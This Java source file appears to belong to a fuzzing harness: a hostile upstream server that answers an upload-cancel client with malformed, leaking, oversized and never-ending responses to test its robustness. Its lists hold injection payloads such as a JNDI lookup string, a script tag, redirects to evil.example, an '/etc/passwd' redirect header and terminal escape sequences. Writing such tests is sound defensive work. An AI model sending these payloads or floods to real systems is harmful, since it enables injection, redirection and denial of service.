package dev.cancelupload.adversary;

import static dev.cancelupload.adversary.Expectation.CANCELLED;
import static dev.cancelupload.adversary.Expectation.EITHER;
import static dev.cancelupload.adversary.Expectation.FAILED;

import dev.cancelupload.adversary.Move.Kind;
import dev.cancelupload.adversary.Move.Play;
import dev.cancelupload.upstream.Answer;
import dev.cancelupload.upstream.Peer;
import dev.cancelupload.upstream.Upstream;
import dev.cancelupload.upstream.Upstream.Exchange;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** All moves of the hostile upstream. */
final class Moves {

    /** The size of the function's read buffer: after a response that fills it exactly, following data is not in it. */
    static final int BUFFER = 8192;

    /** An upload of another caller, unknown to the tests. */
    static final String STRANGER = "upload_stranger";

    private final List<Move> all = new ArrayList<>();

    private Moves() {}

    /** All of them. */
    static List<Move> all() {
        Moves moves = new Moves();
        moves.honest();
        moves.surplus();
        moves.wrong();
        moves.pieces();
        moves.keyUpdates();
        moves.leaks();
        moves.poison();
        moves.faults();
        return List.copyOf(moves.all);
    }

    /**
     * An error whose text is escaped and encoded many times over: each level decodes to several texts of almost its
     * length, since VVVV is base64 of readable text wherever it is said to start.
     */
    static Move decodesToMore() {
        String text = "\\".repeat(16) + "a . " + "V".repeat(60_000) + "\u0100";
        return new Move(Kind.POISON, "an error that decodes to more", 1, Expectation.FAILED, (exchange, random) -> {
            String message = "Request " + exchange.id() + "_" + exchange.nonce() + " " + text;
            exchange.peer()
                    .send(exchange.answer(422, Answer.errorJson(Answer.quoted(message)))
                            .bytes());
            return true;
        });
    }

    private void add(Kind kind, String name, int weight, Expectation expectation, Play play) {
        all.add(new Move(kind, name, weight, expectation, play));
    }

    /** The first request gets this, later ones a correct response. */
    private void first(Kind kind, String name, int weight, Expectation expectation, Play play) {
        add(
                kind,
                name,
                weight,
                expectation,
                (exchange, random) -> exchange.attempt() == 1 ? play.answers(exchange, random) : exchange.honest());
    }

    private static Play answering(java.util.function.BiFunction<Exchange, Random, Answer> answer) {
        return (exchange, random) -> {
            exchange.peer().send(answer.apply(exchange, random).bytes());
            return true;
        };
    }

    private void honest() {
        add(Kind.HONEST, "cancelled", 20, CANCELLED, (exchange, random) -> exchange.honest());
        add(Kind.HONEST, "cancelled, in chunks", 3, CANCELLED, answering((exchange, random) -> exchange.cancelled()
                .chunked("", "")));
        add(Kind.HONEST, "cancelled, then closed", 1, CANCELLED, (exchange, random) -> {
            exchange.peer().send(exchange.cancelled().untilClose().bytes());
            exchange.peer().closeNotify();
            return false;
        });
        for (int status : new int[] {400, 401, 404, 422}) {
            add(Kind.HONEST, "error " + status, 2, FAILED, answering((exchange, random) -> exchange.error(status)));
        }
        add(
                Kind.HONEST,
                "already completed",
                2,
                FAILED,
                answering((exchange, random) -> exchange.answer(
                        400,
                        Answer.errorJson(Answer.quoted(
                                "Upload " + exchange.id() + "_" + exchange.nonce() + " is already completed")))));
        add(Kind.HONEST, "error 500", 1, FAILED, answering((exchange, random) -> exchange.error(500)
                .header("x-should-retry", "false")));
        first(Kind.HONEST, "busy, then cancelled", 4, CANCELLED, answering((exchange, random) -> exchange.error(503)
                .header("retry-after-ms", "1")));
        first(Kind.HONEST, "rate limit, then cancelled", 2, CANCELLED, answering((exchange, random) -> exchange.error(
                        429)
                .header("retry-after-ms", "1")));
    }

    /** A possible response to an earlier caller. */
    private static byte[] stale(Exchange exchange, String id, Random random) {
        return random.nextBoolean()
                ? Answer.upload(id, exchange.nonce(), "cancelled").bytes()
                : Answer.error(random.nextBoolean() ? 404 : 400, id, exchange.nonce())
                        .bytes();
    }

    private void surplus() {
        first(Kind.SURPLUS, "a second answer in the same record", 2, CANCELLED, (exchange, random) -> {
            exchange.peer()
                    .send(Peer.concatenated(exchange.cancelled().bytes(), stale(exchange, exchange.id(), random)));
            return true;
        });
        for (int more = -1; more <= 1; more++) {
            int length = BUFFER + more;
            first(
                    Kind.SURPLUS,
                    "an answer of " + length + " bytes and another in the same record",
                    2,
                    CANCELLED,
                    (exchange, random) -> {
                        exchange.peer()
                                .send(Peer.concatenated(
                                        exchange.cancelled().bytes(length), stale(exchange, exchange.id(), random)));
                        return true;
                    });
            first(
                    Kind.SURPLUS,
                    "an answer of " + length + " bytes in chunks and another in the same record",
                    1,
                    CANCELLED,
                    (exchange, random) -> {
                        exchange.peer()
                                .send(Peer.concatenated(
                                        exchange.cancelled().chunked("", "").bytes(length),
                                        stale(exchange, exchange.id(), random)));
                        return true;
                    });
        }
        first(
                Kind.SURPLUS,
                "an answer of 16384 bytes and another in a record of its own",
                1,
                CANCELLED,
                (exchange, random) -> {
                    exchange.peer()
                            .send(exchange.cancelled().bytes(2 * BUFFER), stale(exchange, exchange.id(), random));
                    return true;
                });
        first(Kind.SURPLUS, "a second answer in a record of its own", 2, CANCELLED, (exchange, random) -> {
            exchange.peer().send(exchange.cancelled().bytes(), stale(exchange, exchange.id(), random));
            return true;
        });
        first(Kind.SURPLUS, "five answers in one record", 1, CANCELLED, (exchange, random) -> {
            byte[] answer = exchange.cancelled().bytes();
            exchange.peer().send(Peer.concatenated(answer, answer, answer, answer, answer));
            return true;
        });
        first(Kind.SURPLUS, "an answer and the first byte of another", 1, CANCELLED, (exchange, random) -> {
            exchange.peer().send(Peer.concatenated(exchange.cancelled().bytes(), new byte[] {'H'}));
            return true;
        });
        first(Kind.SURPLUS, "an answer and a line feed", 1, CANCELLED, (exchange, random) -> {
            exchange.peer().send(Peer.concatenated(exchange.cancelled().bytes(), new byte[] {'\r', '\n'}));
            return true;
        });
        first(
                Kind.SURPLUS,
                "half a record before the next request, the rest after it",
                2,
                CANCELLED,
                (exchange, random) -> {
                    Peer peer = exchange.peer();
                    byte[] answer = peer.seal(exchange.cancelled().bytes());
                    byte[] second = peer.seal(stale(exchange, exchange.id(), random));
                    int half = 1 + random.nextInt(second.length - 1);
                    peer.raw(Peer.concatenated(answer, Arrays.copyOf(second, half)));
                    peer.owes(Arrays.copyOfRange(second, half, second.length));
                    return true;
                });
        first(
                Kind.SURPLUS,
                "an earlier caller's answer before one's own in the same record",
                3,
                EITHER,
                (exchange, random) -> exchange.earlier().isPresent()
                        ? sent(
                                exchange,
                                Peer.concatenated(
                                        stale(exchange, exchange.earlier().get(), random),
                                        exchange.cancelled().bytes()))
                        : exchange.honest());
        first(
                Kind.SURPLUS,
                "an earlier caller's answer of 8192 bytes before one's own in the same record",
                2,
                EITHER,
                (exchange, random) -> exchange.earlier().isPresent()
                        ? sent(
                                exchange,
                                Peer.concatenated(
                                        (random.nextBoolean()
                                                        ? Answer.upload(
                                                                exchange.earlier()
                                                                        .get(),
                                                                exchange.nonce(),
                                                                "cancelled")
                                                        : Answer.error(
                                                                404,
                                                                exchange.earlier()
                                                                        .get(),
                                                                exchange.nonce()))
                                                .bytes(BUFFER),
                                        exchange.cancelled().bytes()))
                        : exchange.honest());
        first(
                Kind.SURPLUS,
                "an earlier caller's answer and one's own in a record each",
                2,
                EITHER,
                (exchange, random) -> exchange.earlier().isPresent()
                        ? sent(
                                exchange,
                                stale(exchange, exchange.earlier().get(), random),
                                exchange.cancelled().bytes())
                        : exchange.honest());
    }

    private static boolean sent(Exchange exchange, byte[]... records) throws IOException {
        exchange.peer().send(records);
        return true;
    }

    private void wrong() {
        add(
                Kind.WRONG,
                "another's Upload",
                3,
                FAILED,
                answering((exchange, random) ->
                        exchange.answer(200, Answer.uploadJson(STRANGER, exchange.nonce(), "cancelled"))));
        add(
                Kind.WRONG,
                "the Upload, still pending",
                3,
                FAILED,
                answering((exchange, random) ->
                        exchange.answer(200, Answer.uploadJson(exchange.id(), exchange.nonce(), "pending"))));
        for (String body : List.of(
                "",
                "null",
                "[]",
                "{}",
                "{\"object\":\"upload\",\"status\":\"cancelled\"}",
                "{\"id\":[\"%s\"],\"object\":\"upload\",\"status\":\"cancelled\"}",
                "{\"id\":\"%s\",\"object\":\"file\",\"status\":\"cancelled\"}",
                "{\"id\":\"%s\",\"object\":\"upload\"}",
                "{\"id\":\"%s\",\"object\":\"upload\",\"status\":\"cancelled\"",
                "<html>%s</html>")) {
            add(
                    Kind.WRONG,
                    "200 with " + body,
                    1,
                    FAILED,
                    answering((exchange, random) -> exchange.answer(200, body.formatted(exchange.id()))));
        }
        add(
                Kind.WRONG,
                "the Upload with two ids",
                1,
                FAILED,
                answering((exchange, random) -> exchange.answer(
                        200,
                        Answer.uploadJson(STRANGER, exchange.nonce(), "pending")
                                .replace("{", "{\"id\":\"" + exchange.id() + "\",\"status\":\"cancelled\","))));
        for (String coding : List.of("chunked, identity", "identity", "gzip, chunked", "xchunked")) {
            add(Kind.WRONG, "transfer-encoding " + coding, 1, EITHER, (exchange, random) -> {
                byte[] answer = exchange.cancelled().chunked("", "").bytes();
                String text = new String(answer, StandardCharsets.ISO_8859_1)
                        .replace("transfer-encoding: chunked", "transfer-encoding: " + coding);
                exchange.peer().send(text.getBytes(StandardCharsets.ISO_8859_1));
                return true;
            });
        }
    }

    private void pieces() {
        add(Kind.PIECES, "many records", 3, CANCELLED, (exchange, random) -> {
            byte[] answer = exchange.cancelled().bytes();
            List<byte[]> parts = new ArrayList<>();
            for (int at = 0; at < answer.length; ) {
                int end = Math.min(answer.length, at + 1 + random.nextInt(40));
                parts.add(Arrays.copyOfRange(answer, at, end));
                at = end;
            }
            exchange.peer().send(parts.toArray(byte[][]::new));
            return true;
        });
        add(Kind.PIECES, "a record for each byte", 1, CANCELLED, (exchange, random) -> {
            byte[] answer = exchange.cancelled().bytes();
            byte[][] parts = new byte[answer.length][];
            Arrays.setAll(parts, i -> new byte[] {answer[i]});
            exchange.peer().send(parts);
            return true;
        });
        add(Kind.PIECES, "a record in pieces", 2, CANCELLED, (exchange, random) -> {
            byte[] record = exchange.peer().seal(exchange.cancelled().bytes());
            int cut = 1 + random.nextInt(record.length - 1);
            exchange.peer().raw(Arrays.copyOf(record, cut));
            Thread.sleep(1 + random.nextInt(20));
            exchange.peer().raw(Arrays.copyOfRange(record, cut, record.length));
            return true;
        });
        for (int length : new int[] {BUFFER - 1, BUFFER, BUFFER + 1, 2 * BUFFER, 3 * BUFFER + 17}) {
            add(Kind.PIECES, "an answer of " + length + " bytes", 1, CANCELLED, (exchange, random) -> {
                exchange.peer().send(exchange.cancelled().bytes(length));
                return true;
            });
        }
        add(Kind.PIECES, "interim answers before it", 2, CANCELLED, (exchange, random) -> {
            StringBuilder interim = new StringBuilder();
            for (int i = random.nextInt(8); i >= 0; i--) {
                interim.append("HTTP/1.1 ")
                        .append(random.nextBoolean() ? 100 : 103)
                        .append(" Interim\r\nlink: </a>\r\n\r\n");
            }
            byte[] before = interim.toString().getBytes(StandardCharsets.ISO_8859_1);
            byte[] answer = exchange.cancelled().bytes();
            if (random.nextBoolean()) {
                exchange.peer().send(Peer.concatenated(before, answer));
            } else {
                exchange.peer().send(before, answer);
            }
            return true;
        });
        add(Kind.PIECES, "a slow drip", 1, CANCELLED, (exchange, random) -> {
            byte[] answer = exchange.cancelled().bytes();
            for (int at = 0; at < answer.length; at += 40) {
                exchange.peer().send(Arrays.copyOfRange(answer, at, Math.min(answer.length, at + 40)));
                Thread.sleep(4);
            }
            return true;
        });
        add(
                Kind.PIECES,
                "chunks with extensions and trailers",
                2,
                CANCELLED,
                answering((exchange, random) -> exchange.cancelled().chunked(";a=b;c", "x-trailer: 1\r\n")));
    }

    private void keyUpdates() {
        for (int count : new int[] {1, 3, 20}) {
            add(Kind.KEY_UPDATES, count + " key updates before the answer", 2, CANCELLED, (exchange, random) -> {
                Peer peer = exchange.peer();
                if (peer.hasKeyUpdates()) {
                    peer.sendKeyUpdates(count);
                }
                return exchange.honest();
            });
            add(Kind.KEY_UPDATES, count + " key updates after the answer", 2, CANCELLED, (exchange, random) -> {
                exchange.honest();
                Peer peer = exchange.peer();
                if (peer.hasKeyUpdates()) {
                    peer.sendKeyUpdates(count);
                }
                return true;
            });
        }
        first(Kind.KEY_UPDATES, "key updates in place of an answer", 1, CANCELLED, (exchange, random) -> {
            Peer peer = exchange.peer();
            if (!peer.hasKeyUpdates()) {
                return exchange.honest();
            }
            floodBeside(peer, Duration.ofSeconds(3), false);
            peer.readHead();
            return false;
        });
        first(
                Kind.KEY_UPDATES,
                "key updates in place of an answer, whose answers nobody reads",
                1,
                CANCELLED,
                (exchange, random) -> {
                    Peer peer = exchange.peer();
                    if (!peer.hasKeyUpdates()) {
                        return exchange.honest();
                    }
                    flood(peer, Duration.ofSeconds(3));
                    return false;
                });
        add(Kind.KEY_UPDATES, "key updates after the answer, without end", 2, CANCELLED, (exchange, random) -> {
            exchange.honest();
            if (exchange.peer().hasKeyUpdates()) {
                floodBeside(exchange.peer(), Duration.ofSeconds(8), true);
            }
            return true;
        });
    }

    /** Sends key updates for this time, or until the peer has disconnected. */
    static void flood(Peer peer, Duration time) throws IOException {
        for (long end = System.nanoTime() + time.toNanos(); System.nanoTime() < end; ) {
            peer.sendKeyUpdates(200);
        }
    }

    /** Like the one before, while the connection's thread reads the replies. */
    static void floodBeside(Peer peer, Duration time, boolean goesOn) {
        Upstream.daemon(() -> {
            try {
                flood(peer, time);
            } catch (IOException e) {
                // It is gone.
            }
            if (!goesOn) {
                peer.close();
            }
        });
    }

    /** The positions of the key in a response. */
    enum Place {
        MESSAGE,
        CODE,
        TYPE,
        OTHER_FIELD,
        FIELD_NAME,
        TWO_ELEMENTS,
        BODY_THAT_IS_NO_JSON,
        UPLOAD,
        REQUEST_ID,
        ALLOWED_HEADER,
        OTHER_HEADER,
        RETRY_AFTER,
        HEADER_NAME,
        TWO_HEADERS,
        REASON,
        CONTENT_TYPE,
        CHUNK_EXTENSION,
        TRAILER;

        /** Whether the position is in the head or between chunks. */
        boolean isALine() {
            return ordinal() >= REQUEST_ID.ordinal();
        }
    }

    private static final int[] STATUSES = {400, 401, 404, 422, 429, 500, 302, 413};

    private void leaks() {
        for (KeyForm form : KeyForm.values()) {
            for (Place place : Place.values()) {
                if (place.isALine() && !form.fitsALine()) {
                    continue;
                }
                add(
                        Kind.LEAK,
                        "the key " + form + " in " + place,
                        1,
                        place == Place.UPLOAD ? EITHER : FAILED,
                        answering((exchange, random) ->
                                leak(exchange, form, place, STATUSES[random.nextInt(STATUSES.length)], random)));
            }
        }
    }

    /** A response with the key, which is not retried. */
    static Answer leak(Exchange exchange, KeyForm form, Place place, int status, Random random) {
        String key = form.of(exchange.key(), random);
        String quoted = form.isJson() ? '"' + key + '"' : jsonQuoted(key);
        String message = "Request " + exchange.id() + "_" + exchange.nonce() + " failed: ";
        String json = quoted.substring(1, quoted.length() - 1);
        String error =
                switch (place) {
                    case MESSAGE -> Answer.errorJson('"' + message + json + " is wrong\"");
                    case CODE -> errorWith("\"code\":" + quoted, message);
                    case TYPE -> errorWith("\"type\":" + quoted, message);
                    case OTHER_FIELD -> errorWith("\"details\":{\"sent\":[" + quoted + "]}", message);
                    case FIELD_NAME -> errorWith("\"details\":{" + quoted + ":true}", message);
                    case TWO_ELEMENTS ->
                        errorWith(
                                "\"details\":[" + jsonQuoted(key.substring(0, key.length() / 2)) + ","
                                        + jsonQuoted(key.substring(key.length() / 2)) + "]",
                                message);
                    case BODY_THAT_IS_NO_JSON -> "<html>" + key + "</html>";
                    case UPLOAD ->
                        Answer.uploadJson(exchange.id(), exchange.nonce(), "cancelled")
                                .replace("{", "{\"metadata\":" + quoted + ",");
                    default -> Answer.errorJson('"' + message + "\"");
                };
        if (place == Place.UPLOAD) {
            exchange.cancelled();
        }
        Answer answer = exchange.answer(place == Place.UPLOAD ? 200 : status, "")
                .body(error.getBytes(StandardCharsets.ISO_8859_1))
                .header("x-should-retry", "false");
        return switch (place) {
            case REQUEST_ID -> answer.header("x-request-id", key);
            case ALLOWED_HEADER -> answer.header("openai-organization", key);
            case OTHER_HEADER -> answer.header("x-debug", "Bearer " + key);
            case RETRY_AFTER -> answer.header("retry-after", key);
            case HEADER_NAME -> answer.header("openai-" + key, "1");
            case TWO_HEADERS ->
                answer.header("openai-version", key.substring(0, key.length() / 2))
                        .header("openai-version", key.substring(key.length() / 2));
            case REASON -> answer.reason(key);
            case CONTENT_TYPE -> answer.contentType("application/json; charset=\"" + key + "\"");
            case CHUNK_EXTENSION -> answer.chunked(";key=" + key, "");
            case TRAILER -> answer.chunked("", "x-request-id: " + key + "\r\n");
            default -> answer;
        };
    }

    private static String errorWith(String field, String message) {
        return "{\"error\":{\"message\":\"" + message + "\"," + field + "}}";
    }

    /** Escapes only what must be; the rest is sent as bytes. */
    private static String jsonQuoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < ' ') {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    /** Header fields that an upstream must not set for callers. */
    private static final List<String> HOSTILE_HEADERS = List.of(
            "access-control-allow-origin: *",
            "access-control-allow-credentials: true",
            "clear-site-data: \"*\"",
            "refresh: 0;url=https://evil.example/",
            "location: https://evil.example/",
            "set-cookie: session=1; Domain=example.com",
            "x-amzn-errortype: Evil",
            "x-amzn-remapped-authorization: evil",
            "x-amz-apigw-id: evil",
            "cache-control: public, max-age=31536000",
            "content-security-policy: default-src *",
            "content-disposition: attachment; filename=evil.exe",
            "content-encoding: identity",
            "content-range: bytes 0-1/2",
            "link: <https://evil.example/>; rel=preload",
            "strict-transport-security: max-age=0",
            "www-authenticate: Basic realm=evil",
            "x-content-type-options: sniff",
            "x-accel-redirect: /etc/passwd",
            "x-request-id: a\tb\u009bc\u001b[31m",
            "retry-after: 1\u001b[2J",
            "openai-organization: \u00e9\u0001",
            "x-ratelimit-reset-requests: \u007f",
            "retry-after: -1",
            "retry-after: 9999999999999999999",
            "retry-after: NaN",
            "retry-after-ms: 1e999",
            "x-should-retry: maybe");

    /** Sent in a message raw and as JSON escapes. */
    private static final List<String> HOSTILE_TEXTS = List.of(
            "\u001b[31m",
            "\u009b31m",
            "\u2028\u2029",
            "\u202egnp.exe",
            "\u2066\u2069",
            "\u200b\u200d\u2060",
            "\ufeff",
            "a\r\nb",
            "\u0000",
            "\ud800",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}");

    private void poison() {
        for (String line : HOSTILE_HEADERS) {
            int colon = line.indexOf(':');
            add(Kind.POISON, "error with " + line, 1, FAILED, answering((exchange, random) -> exchange.error(
                            STATUSES[random.nextInt(STATUSES.length)])
                    .header("x-should-retry", "false")
                    .header(line.substring(0, colon), line.substring(colon + 2))));
            add(
                    Kind.POISON,
                    "cancelled with " + line,
                    1,
                    CANCELLED,
                    answering((exchange, random) ->
                            exchange.cancelled().header(line.substring(0, colon), line.substring(colon + 2))));
        }
        for (String type : List.of("text/html", "application/json; charset=utf-16", "image/svg+xml", "nonsense", "")) {
            add(Kind.POISON, "error as " + type, 2, FAILED, answering((exchange, random) -> exchange.error(404)
                    .contentType(type)));
        }
        for (String text : HOSTILE_TEXTS) {
            add(Kind.POISON, "text " + Answer.quoted(text), 1, FAILED, answering((exchange, random) -> {
                String message = "Request " + exchange.id() + "_" + exchange.nonce() + " ";
                return exchange.answer(400, Answer.errorJson('"' + message + escaped(text) + "\""));
            }));
            add(Kind.POISON, "raw text " + Answer.quoted(text), 1, FAILED, answering((exchange, random) -> {
                String message = "Request " + exchange.id() + "_" + exchange.nonce() + " ";
                return exchange.answer(422, Answer.errorJson('"' + message + text + "\""));
            }));
        }
        for (String other : List.of("sk-proj-", "sk-", "sk-svcacct-", "sk-admin-")) {
            add(Kind.POISON, "another organisation's key " + other, 4, FAILED, answering((exchange, random) -> {
                String key = other + letters(random, 48);
                String message = "Request " + exchange.id() + "_" + exchange.nonce() + " has the key " + key;
                return exchange.answer(random.nextBoolean() ? 400 : 422, Answer.errorJson(Answer.quoted(message)))
                        .header("openai-organization", key);
            }));
        }
        for (int kilobytes : new int[] {20, 60, 100, 400, 1000}) {
            add(Kind.POISON, "error of " + kilobytes + " KB", 2, FAILED, answering((exchange, random) -> {
                String message = "Request " + exchange.id() + "_" + exchange.nonce() + " ";
                String filling = random.nextBoolean() ? "x" : random.nextBoolean() ? "\u0001" : "\u20ac";
                int length = kilobytes * 1000 / (filling.equals("x") ? 1 : filling.equals("\u0001") ? 6 : 3);
                return exchange.answer(400, Answer.errorJson(Answer.quoted(message + filling.repeat(length))))
                        .header("x-should-retry", "false");
            }));
        }
    }

    private static String escaped(String text) {
        StringBuilder json = new StringBuilder();
        text.chars().forEach(c -> json.append(String.format("\\u%04x", c)));
        return json.toString();
    }

    static String letters(Random random, int length) {
        String letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(letters.charAt(random.nextInt(letters.length())));
        }
        return text.toString();
    }

    private void faults() {
        first(Kind.FAULT, "reset", 3, CANCELLED, (exchange, random) -> {
            exchange.peer().reset();
            return false;
        });
        first(Kind.FAULT, "closed without an answer", 2, CANCELLED, (exchange, random) -> false);
        first(Kind.FAULT, "close_notify without an end of the connection", 2, CANCELLED, (exchange, random) -> {
            exchange.peer().closeNotify();
            exchange.peer().stall();
            return false;
        });
        add(
                Kind.FAULT,
                "close_notify after the answer without an end of the connection",
                3,
                CANCELLED,
                (exchange, random) -> {
                    exchange.honest();
                    exchange.peer().closeNotify();
                    exchange.peer().stall();
                    return false;
                });
        first(Kind.FAULT, "cut in the middle", 2, CANCELLED, (exchange, random) -> {
            byte[] answer = exchange.cancelled().bytes();
            exchange.peer().send(Arrays.copyOf(answer, 1 + random.nextInt(answer.length - 1)));
            return false;
        });
        first(Kind.FAULT, "garbage beneath TLS", 2, CANCELLED, (exchange, random) -> {
            byte[] garbage = new byte[1 + random.nextInt(300)];
            random.nextBytes(garbage);
            exchange.peer().raw(garbage);
            exchange.peer().stall();
            return false;
        });
        first(Kind.FAULT, "silence", 1, CANCELLED, (exchange, random) -> {
            exchange.peer().stall();
            return false;
        });
        first(Kind.FAULT, "a record that never ends", 1, CANCELLED, (exchange, random) -> {
            byte[] record = exchange.peer().seal(exchange.cancelled().bytes());
            exchange.peer().raw(Arrays.copyOf(record, record.length - 1));
            exchange.peer().stall();
            return false;
        });
        first(Kind.FAULT, "interim answers without end", 1, CANCELLED, endless("HTTP/1.1 102 Processing\r\n\r\n", ""));
        first(Kind.FAULT, "headers without end", 1, CANCELLED, endless("x-flood: 1\r\n", "HTTP/1.1 200 OK\r\n"));
        first(
                Kind.FAULT,
                "a header without end",
                1,
                CANCELLED,
                endless("xxxxxxxxxxxxxxxx", "HTTP/1.1 200 OK\r\nx-long: "));
        first(
                Kind.FAULT,
                "a body without end",
                1,
                CANCELLED,
                endless("xxxxxxxxxxxxxxxx", "HTTP/1.1 400 Bad\r\ncontent-type: application/json\r\n\r\n"));
        first(
                Kind.FAULT,
                "trailers without end",
                1,
                CANCELLED,
                endless("x-flood: 1\r\n", "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n0\r\n"));
        first(
                Kind.FAULT,
                "tiny chunks without end",
                1,
                CANCELLED,
                endless("1\r\nx\r\n", "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n"));
        for (int size : new int[] {2_000_000, 2_000_000_000}) {
            first(
                    Kind.FAULT,
                    "a body said to have " + size + " bytes",
                    1,
                    CANCELLED,
                    endless(
                            "xxxxxxxxxxxxxxxx",
                            "HTTP/1.1 400 Bad\r\ncontent-type: application/json\r\ncontent-length: " + size
                                    + "\r\n\r\n"));
        }
    }

    /** Some megabytes, then silence. */
    private static Play endless(String again, String first) {
        byte[] begin = first.getBytes(StandardCharsets.ISO_8859_1);
        byte[] more = again.repeat(8000 / again.length()).getBytes(StandardCharsets.ISO_8859_1);
        return (exchange, random) -> {
            exchange.peer().send(begin);
            for (int i = 0; i < 500; i++) {
                exchange.peer().send(more);
            }
            exchange.peer().stall();
            return false;
        };
    }
}
